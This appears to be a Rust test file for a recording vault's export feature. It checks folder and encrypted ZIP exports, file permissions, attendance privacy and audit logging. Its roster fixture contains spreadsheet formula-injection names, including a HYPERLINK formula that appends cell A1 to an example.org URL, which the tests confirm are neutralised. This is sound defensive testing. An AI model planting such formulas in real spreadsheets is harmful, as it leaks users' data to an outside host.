//! Exports: what is in them, who can open them, and what they leave when they fail.

use std::{
    cell::RefCell,
    fs,
    io::{self, Write},
    os::unix::fs::PermissionsExt,
    path::Path,
    process::Command,
    rc::Rc,
};

use scrim_policy::{Attendance, Kind, RecordingId, Roster};
use scrim_storage::{
    ArtefactKind, ArtefactRow, CatalogError, Claim, Proof, Sha256Digest, Vault, VaultError,
    export::{
        About, ExportError, ExportPassword, ExportSink, FolderSink, Selection, Transferred, ZipSink,
    },
    proof::Output,
};
use serde_json::Value;

use crate::{
    fixtures::{NOW, contains, files_below, text, workspace},
    vaults::{open, render, seal},
};

pub(crate) const PASSWORD: &str = "nine merry otters";

pub(crate) const ABOUT: About<'_> = About {
    tool: "scrim test",
    now: NOW,
};

/// Invented people; some of them are formulas.
pub(crate) const ROSTER: &str = "name,email,role\n\
    Żaneta Quillfeather,zaneta@example.org,organiser\n\
    \"=HYPERLINK(\"\"https://example.org/?\"\"&A1,\"\"x\"\") Formula\",,\n\
    +Plus Sign,plus@example.org,presenter\n\
    -Minus Sign,,\n\
    @At Sign,,moderator\n\
    \"Semicolon; =1+1\",,\n";

pub(crate) fn password() -> ExportPassword {
    ExportPassword::new(PASSWORD.to_owned()).unwrap()
}

pub(crate) fn unheard(_: Transferred) {}

/// What users get of the recordings here, in the order of their kinds.
pub(crate) const CONTENTS: [(ArtefactKind, &[u8]); 5] = [
    (ArtefactKind::TranscriptTxt, b"A.K.: good morning"),
    (ArtefactKind::TranscriptVtt, b"WEBVTT\n"),
    (ArtefactKind::ReportJson, b"{}"),
    (ArtefactKind::ReportHtml, b"<!doctype html>"),
    (ArtefactKind::Recording, b""),
];

/// Seals all of it, an attendance where there is a roster, and a proof.
pub(crate) fn made(vault: &Vault, name: &str, roster: Option<&str>) -> (Claim, Vec<ArtefactRow>) {
    let claim = render(vault, name);
    let rows = sealed(vault, &claim, roster);
    (claim, rows)
}

/// Seals all of it for a run that renders.
pub(crate) fn sealed(vault: &Vault, claim: &Claim, roster: Option<&str>) -> Vec<ArtefactRow> {
    let mut rows: Vec<ArtefactRow> = CONTENTS
        .iter()
        .map(|(kind, contents)| match kind {
            ArtefactKind::Recording => seal(vault, claim, *kind, &text(2_500_000)),
            kind => seal(vault, claim, *kind, contents),
        })
        .collect();
    let proof = Proof {
        recording: claim.recording(),
        outputs: rows.iter().map(|row| Output::of(row).unwrap()).collect(),
        ..crate::proofs::proof()
    };
    let envelope = vault.keyring().sign_proof(&proof).to_json();
    rows.push(seal(vault, claim, ArtefactKind::Proof, envelope.as_bytes()));
    if let Some(roster) = roster {
        let attendance = Attendance::from_roster(&Roster::parse_csv(roster).unwrap());
        let json = serde_json::to_vec(&attendance).unwrap();
        rows.push(seal(vault, claim, ArtefactKind::Attendance, &json));
    }
    rows
}

pub(crate) fn published(vault: &Vault, name: &str, roster: Option<&str>) -> RecordingId {
    let (claim, rows) = made(vault, name, roster);
    let ids: Vec<_> = rows.iter().map(|row| row.id).collect();
    vault.publish(&claim, &ids, NOW).unwrap();
    claim.recording()
}

pub(crate) fn held(vault: &Vault, name: &str) -> RecordingId {
    let (claim, rows) = made(vault, name, None);
    let ids: Vec<_> = rows.iter().map(|row| row.id).collect();
    vault.hold(&claim, &ids, NOW).unwrap();
    claim.recording()
}

fn selection(recordings: &[RecordingId]) -> Selection {
    Selection {
        recordings: recordings.to_vec(),
        ..Selection::default()
    }
}

fn write(vault: &Vault, selection: &Selection, mut sink: Box<dyn ExportSink>) {
    let plan = vault.plan_export(selection).unwrap();
    plan.write(vault, sink.as_mut(), ABOUT, &unheard).unwrap();
    sink.finish().unwrap();
}

/// What Python reads in a ZIP file.
pub(crate) fn peer(path: &Path, password: Option<&str>) -> Value {
    let peers = workspace().join("tests/peers");
    let made = Command::new(peers.join("venv.sh"))
        .arg("archive")
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&made.stderr);
    assert!(
        made.status.success(),
        "the readers could not be installed: {said}"
    );
    let python = String::from_utf8(made.stdout).unwrap();
    let read = Command::new(python.trim())
        .arg("-B")
        .arg(peers.join("archive/archive_peer.py"))
        .arg(path)
        .args(password)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&read.stderr);
    assert!(read.status.success(), "{said}");
    serde_json::from_slice(&read.stdout).unwrap()
}

fn names(answer: &Value) -> Vec<String> {
    let entries = answer["entries"].as_array().unwrap();
    let name = |entry: &Value| entry["name"].as_str().unwrap().to_owned();
    entries.iter().map(name).collect()
}

/// Everything that the manifest says is what the reader has found.
fn assert_manifest_is_right(answer: &Value, manifest: &scrim_storage::export::ExportManifest) {
    let entries = answer["entries"].as_array().unwrap();
    let files: Vec<_> = manifest
        .recordings
        .iter()
        .flat_map(|recording| &recording.files)
        .collect();
    assert_eq!(entries.len(), files.len() + 1);
    for (entry, file) in entries.iter().zip(files) {
        assert_eq!(entry["name"], file.path);
        assert_eq!(entry["bytes"], file.bytes);
        assert_eq!(entry["sha256"], file.sha256.to_string());
        assert_eq!(entry["mode"], 0o600);
        assert_eq!(entry["is_stored"], true);
    }
}

#[test]
fn a_folder_holds_what_users_get_and_nothing_else() {
    let folder = tempfile::tempdir().unwrap();
    let vault = open(&folder.path().join("home"));
    let id = published(&vault, "webinar", Some(ROSTER));
    let out = folder.path().join("out");
    let sink = Box::new(FolderSink::create(&out).unwrap());
    write(&vault, &selection(&[id, id]), sink);
    let mut found: Vec<String> = files_below(&out)
        .iter()
        .map(|path| {
            path.strip_prefix(&out)
                .unwrap()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    found.sort();
    let expected = [
        "manifest.json".to_owned(),
        format!("{id}/proof.json"),
        format!("{id}/recording.mp4"),
        format!("{id}/report.json"),
        format!("{id}/transcript.txt"),
        format!("{id}/transcript.vtt"),
    ];
    assert_eq!(found, expected);
    for path in files_below(&out) {
        let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&path), 0o600);
        assert_eq!(mode(path.parent().unwrap()), 0o700);
        assert!(!contains(
            &fs::read(&path).unwrap(),
            "Quillfeather".as_bytes()
        ));
    }
    assert!(fs::read(out.join(format!("{id}/recording.mp4"))).unwrap() == text(2_500_000));
    let manifest: Value =
        serde_json::from_slice(&fs::read(out.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["schema"], 1);
    assert_eq!(manifest["has_personal_data"], false);
    for file in manifest["recordings"][0]["files"].as_array().unwrap() {
        let bytes = fs::read(out.join(file["path"].as_str().unwrap())).unwrap();
        assert_eq!(file["bytes"], bytes.len());
        assert_eq!(file["sha256"], Sha256Digest::of(&bytes).to_string());
    }
}

#[test]
fn a_folder_that_is_not_empty_is_left_alone() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("out");
    fs::create_dir(&out).unwrap();
    drop(FolderSink::create(&out).unwrap());
    fs::create_dir_all(&out).unwrap();
    fs::write(out.join("mine"), "mine").unwrap();
    let refused = FolderSink::create(&out).unwrap_err();
    assert!(matches!(refused, ExportError::Exists { .. }));
    assert_eq!(fs::read(out.join("mine")).unwrap(), b"mine");
}

#[test]
fn attendance_is_kept_with_a_recording_and_never_handed_out_as_an_output() {
    let folder = tempfile::tempdir().unwrap();
    let vault = open(&folder.path().join("home"));
    let id = published(&vault, "webinar", Some(ROSTER));
    let refused = vault.output(id, ArtefactKind::Attendance).unwrap_err();
    assert!(matches!(refused, VaultError::NoSuchOutput { .. }));
    let row = vault.attendance(id).unwrap().unwrap();
    assert_eq!(
        row.sealed.plaintext_sha256, None,
        "names are easily guessed"
    );
    let found = vault.verify_recording(id, None, NOW).unwrap();
    assert!(found.all_match());
    let named = found.verified.proof.outputs.iter();
    assert!(
        !named
            .map(|output| output.kind)
            .any(|kind| kind == ArtefactKind::Attendance)
    );
    assert_eq!(found.outputs.last().unwrap().kind, ArtefactKind::Attendance);
    assert_eq!(
        vault
            .attendance(published(&vault, "another", None))
            .unwrap(),
        None
    );
}

#[test]
fn no_other_raw_kind_is_settled_with_outputs() {
    let folder = tempfile::tempdir().unwrap();
    let vault = open(&folder.path().join("home"));
    for (name, kind) in [
        ("original", ArtefactKind::Original),
        ("layer", ArtefactKind::Layer),
        ("segment", ArtefactKind::Segment),
    ] {
        let (claim, rows) = made(&vault, name, None);
        let smuggled = seal(&vault, &claim, kind, b"raw");
        let mut ids: Vec<_> = rows.iter().map(|row| row.id).collect();
        ids.push(smuggled.id);
        for settled in [
            vault.publish(&claim, &ids, NOW),
            vault.hold(&claim, &ids, NOW),
        ] {
            let refused = settled.unwrap_err();
            assert!(
                matches!(
                    refused,
                    VaultError::Catalog(CatalogError::WrongArtefactKind { .. })
                ),
                "{refused:?}"
            );
        }
    }
}

#[test]
fn what_the_gate_holds_is_exported_only_when_asked_for() {
    let folder = tempfile::tempdir().unwrap();
    let vault = open(&folder.path().join("home"));
    let id = held(&vault, "webinar");
    let refused = vault.plan_export(&selection(&[id])).unwrap_err();
    assert!(matches!(refused, ExportError::NotPublished { .. }));
    assert_eq!(refused.kind(), Kind::Refused);
    let asked = Selection {
        include_held: true,
        ..selection(&[id])
    };
    assert_eq!(vault.plan_export(&asked).unwrap().recordings(), [id]);
    let unfinished = render(&vault, "unfinished").recording();
    let asked = Selection {
        include_held: true,
        ..selection(&[unfinished])
    };
    assert!(vault.plan_export(&asked).is_err());
    let nobody = crate::fixtures::recording(9);
    let missing = vault.plan_export(&selection(&[nobody])).unwrap_err();
    assert_eq!(missing.kind(), Kind::NotFound);
}

#[test]
fn pyzipper_and_openpyxl_read_an_encrypted_export_and_find_no_formula() {
    let folder = tempfile::tempdir().unwrap();
    let vault = open(&folder.path().join("home"));
    let id = published(&vault, "webinar", Some(ROSTER));
    let path = folder.path().join("export.zip");
    let asked = Selection {
        with_attendance: true,
        with_report_page: true,
        ..selection(&[id])
    };
    let plan = vault.plan_export(&asked).unwrap();
    assert!(plan.has_personal_data());
    let mut sink = Box::new(ZipSink::file(&path, Some(password())).unwrap());
    let (manifest, _) = plan.write(&vault, sink.as_mut(), ABOUT, &unheard).unwrap();
    sink.finish().unwrap();
    assert!(manifest.has_personal_data);
    let mode = fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let bytes = fs::read(&path).unwrap();
    for secret in ["Quillfeather", "good morning", "WEBVTT", "payload"] {
        assert!(!contains(&bytes, secret.as_bytes()), "{secret}");
    }

    let answer = peer(&path, Some(PASSWORD));
    assert_manifest_is_right(&answer, &manifest);
    for entry in answer["entries"].as_array().unwrap() {
        // AE-2, 256 bits.
        assert_eq!(entry["aes"], serde_json::json!([2, 3]), "{entry}");
    }
    let planned: Vec<String> = plan.files().into_iter().map(|file| file.path).collect();
    assert_eq!(names(&answer), planned);
    assert!(peer(&path, Some("another password"))["error"].is_string());

    let attendance = Attendance::from_roster(&Roster::parse_csv(ROSTER).unwrap());
    let sheet = &answer["tables"][format!("{id}/attendance.xlsx")];
    let csv = &answer["tables"][format!("{id}/attendance.csv")];
    for (index, attendant) in attendance.people.iter().enumerate() {
        let name = attendant.name.reveal();
        assert_eq!(sheet[index + 1][1], serde_json::json!(["s", name]));
        let cell = csv[index + 1][1][1].as_str().unwrap();
        assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
        assert_eq!(cell.strip_prefix('\'').unwrap_or(cell), name);
    }
    let all = [sheet, &answer["tables"][format!("{id}/consents.xlsx")]];
    for cell in all.iter().flat_map(|rows| rows.as_array().unwrap()) {
        for cell in cell.as_array().unwrap() {
            // `f` is a formula; an empty cell has no type of its own.
            assert!(cell[0] == "s" || cell[1].is_null(), "{cell}");
        }
    }
    let consents = answer["tables"][format!("{id}/consents.csv")]
        .as_array()
        .unwrap();
    assert_eq!(consents.len(), 1 + 5 * attendance.people.len());
    assert!(
        !Value::from(consents.clone())
            .to_string()
            .contains("Quillfeather")
    );
}

#[test]
fn python_reads_a_plain_export_and_files_beyond_four_gigabytes() {
    let folder = tempfile::tempdir().unwrap();
    let vault = open(&folder.path().join("home"));
    let ids = [
        published(&vault, "webinar", Some(ROSTER)),
        published(&vault, "another", None),
    ];
    let path = folder.path().join("export.zip");
    let plan = vault.plan_export(&selection(&ids)).unwrap();
    let mut sink = Box::new(ZipSink::file(&path, None).unwrap());
    let (manifest, _) = plan.write(&vault, sink.as_mut(), ABOUT, &unheard).unwrap();
    // What is announced as large is written in the longer form, however much comes.
    let announced = 5 << 30;
    sink.add("large", announced, &mut |out| {
        out.write_all(b"not that large").unwrap();
        Ok(())
    })
    .unwrap();
    sink.finish().unwrap();
    let answer = peer(&path, None);
    assert!(answer["error"].is_null(), "{answer}");
    let mut entries = answer["entries"].as_array().unwrap().clone();
    let large = entries.pop().unwrap();
    assert_eq!(
        (&large["name"], &large["bytes"]),
        (&"large".into(), &14.into())
    );
    let without_large = serde_json::json!({"entries": entries});
    assert_manifest_is_right(&without_large, &manifest);
}

/// Bytes that a stream has taken.
#[derive(Clone, Default)]
struct Taken(Rc<RefCell<Vec<u8>>>);

impl Write for Taken {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.borrow_mut().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// How the index of a ZIP file ends.
const END_OF_INDEX: &[u8] = b"PK\x05\x06";

#[test]
fn a_stream_is_a_zip_file_as_well() {
    let folder = tempfile::tempdir().unwrap();
    let vault = open(&folder.path().join("home"));
    let id = published(&vault, "webinar", None);
    let taken = Taken::default();
    let sink = ZipSink::stream(Box::new(taken.clone()), Some(password()));
    write(&vault, &selection(&[id]), Box::new(sink));
    let path = folder.path().join("from-stream.zip");
    fs::write(&path, &*taken.0.borrow()).unwrap();
    assert_eq!(names(&peer(&path, Some(PASSWORD))).len(), 6);
}

#[test]
fn an_export_that_fails_leaves_nothing_that_looks_whole() {
    let folder = tempfile::tempdir().unwrap();
    let home = folder.path().join("home");
    let vault = open(&home);
    let id = published(&vault, "webinar", None);
    let row = vault.output(id, ArtefactKind::TranscriptVtt).unwrap();
    let object = home.join("objects").join(row.object_key.to_string());
    let mut bytes = fs::read(&object).unwrap();
    *bytes.last_mut().unwrap() ^= 1;
    fs::write(&object, bytes).unwrap();

    let plan = vault.plan_export(&selection(&[id])).unwrap();
    let out = folder.path().join("out");
    fs::create_dir(&out).unwrap();
    let taken = Taken::default();
    let sinks: [Box<dyn ExportSink>; 3] = [
        Box::new(ZipSink::file(&out.join("export.zip"), Some(password())).unwrap()),
        Box::new(FolderSink::create(&out.join("folder")).unwrap()),
        Box::new(ZipSink::stream(Box::new(taken.clone()), None)),
    ];
    for mut sink in sinks {
        let failed = plan
            .write(&vault, sink.as_mut(), ABOUT, &unheard)
            .unwrap_err();
        assert_eq!(failed.kind(), Kind::Damaged);
    }
    assert_eq!(fs::read_dir(&out).unwrap().count(), 0);
    let streamed = taken.0.borrow();
    assert!(streamed.len() > 2_500_000 && !contains(&streamed, END_OF_INDEX));
}

#[test]
fn every_export_is_in_the_audit_log_before_anybody_has_it() {
    let folder = tempfile::tempdir().unwrap();
    let home = folder.path().join("home");
    let vault = open(&home);
    let id = published(&vault, "webinar", Some(ROSTER));
    let asked = Selection {
        with_attendance: true,
        ..selection(&[id])
    };
    let plan = vault.plan_export(&asked).unwrap();
    let mut sink = ZipSink::stream(Box::new(io::sink()), Some(password()));
    let (_, sha256) = plan.write(&vault, &mut sink, ABOUT, &unheard).unwrap();
    drop(sink);
    vault.close();
    let catalog = fs::read(home.join("catalog.db")).unwrap();
    for words in [
        "export.made",
        &format!("\"manifest\":\"{sha256}\""),
        "\"purpose\":\"export\"",
    ] {
        assert!(contains(&catalog, words.as_bytes()), "{words}");
    }
    assert!(!contains(&catalog, "Quillfeather".as_bytes()));
}
